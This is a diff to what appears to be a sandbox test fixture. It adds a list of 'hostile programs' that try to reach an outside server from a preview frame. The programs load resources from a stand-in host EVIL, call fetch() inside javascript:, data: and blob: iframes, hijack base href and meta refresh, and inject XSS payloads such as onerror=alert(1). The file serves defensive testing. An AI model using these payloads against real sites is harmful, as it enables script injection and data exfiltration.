@@ -87,7 +87,7 @@ const AWAY: readonly HostileProgram[] = [
   {
     name: 'writing itself anew',
     code: "document.open();\ndocument.write('<img src=EVIL/write>');\ndocument.close();",
-    outcome: 'shown or stopped'
+    outcome: /not available in previews/
   }
 ];
 
@@ -171,6 +171,46 @@ const OUT: readonly HostileProgram[] = [
   }
 ];
 
+/** Programs that use everything at once that could reach another server. */
+const ALL_AT_ONCE: readonly HostileProgram[] = [
+  {
+    name: 'every element that loads',
+    code: [
+      "const sources = ['img', 'script', 'iframe', 'embed', 'video', 'audio', 'source', 'track', 'input', 'frame', 'bgsound'];",
+      "for (const name of sources) document.body.append(Object.assign(document.createElement(name), { src: `EVIL/${name}`, type: 'image' }));",
+      "for (const rel of ['stylesheet', 'icon', 'manifest', 'preload', 'prefetch', 'prerender', 'preconnect', 'dns-prefetch', 'modulepreload', 'import', 'next', 'alternate']) document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: `EVIL/${rel}` }));",
+      "document.body.insertAdjacentHTML('beforeend', '<object data=EVIL/object></object><img srcset=\"EVIL/srcset 1x\"><picture><source srcset=EVIL/picture><img></picture><body background=EVIL/body><table background=EVIL/table></table><applet code=EVIL/applet></applet><portal src=EVIL/portal></portal><fencedframe></fencedframe>');"
+    ].join('\n'),
+    outcome: 'shown or stopped'
+  },
+  {
+    name: 'a refresh and a base',
+    code: "document.head.insertAdjacentHTML('beforeend', '<base href=EVIL/base/><meta http-equiv=refresh content=\"0;url=refreshed\">');\nnew Image().src = 'relative.png';",
+    outcome: 'shown or stopped'
+  },
+  {
+    name: 'documents written anew, with scripts',
+    code: "document.open();\ndocument.write('<script src=EVIL/written></script><link rel=preconnect href=EVIL><img src=EVIL/image>');\ndocument.close();",
+    outcome: /not available in previews/
+  },
+  {
+    name: 'inner frames with realms of their own',
+    code: [
+      "for (const source of ['about:blank', 'javascript:fetch(`EVIL/js`)', 'data:text/html,<script>fetch(`EVIL/data`)</script>', URL.createObjectURL(new Blob(['<script>fetch(`EVIL/blob`)</script>'], { type: 'text/html' }))]) {",
+      "  const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { src: source }));",
+      '  try { frame.contentWindow.fetch(`EVIL/realm`); } catch { /* its origin is another */ }',
+      '  try { new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:STUN` }] }); } catch { /* the same */ }',
+      '}'
+    ].join('\n'),
+    outcome: 'shown or stopped'
+  },
+  {
+    name: 'HTML that React is told to trust, with everything',
+    code: 'export const Example = () => <div dangerouslySetInnerHTML={{ __html: \'<link rel=preconnect href=EVIL><link rel=preload as=image href=EVIL/preload><meta http-equiv=refresh content="0;url=EVIL/refresh"><base href=EVIL/base><img src=EVIL/img onerror=alert(1)><svg onload=alert(1)><script>fetch(`EVIL/script`)</script></svg><iframe srcdoc="<script>fetch(`EVIL/srcdoc`)</script>"></iframe><form action=EVIL/form><button autofocus>go</button></form><a href=javascript:alert(1) id=a>a</a>\' }} />;',
+    outcome: 'shown or stopped'
+  }
+];
+
 /** Programs that want the next example to be theirs. */
 const WITHIN: readonly HostileProgram[] = [
   { name: 'code from a text', code: "new Function('return 1')();", outcome: /EvalError|unsafe-eval/ },
@@ -199,4 +239,4 @@ const WITHIN: readonly HostileProgram[] = [
 ];
 
 /** Programs that want out of their frame. */
-export const ESCAPES: readonly HostileProgram[] = [...TOWARDS_THE_PAGE, ...AWAY, ...OUT, ...WITHIN];
+export const ESCAPES: readonly HostileProgram[] = [...TOWARDS_THE_PAGE, ...AWAY, ...OUT, ...ALL_AT_ONCE, ...WITHIN];
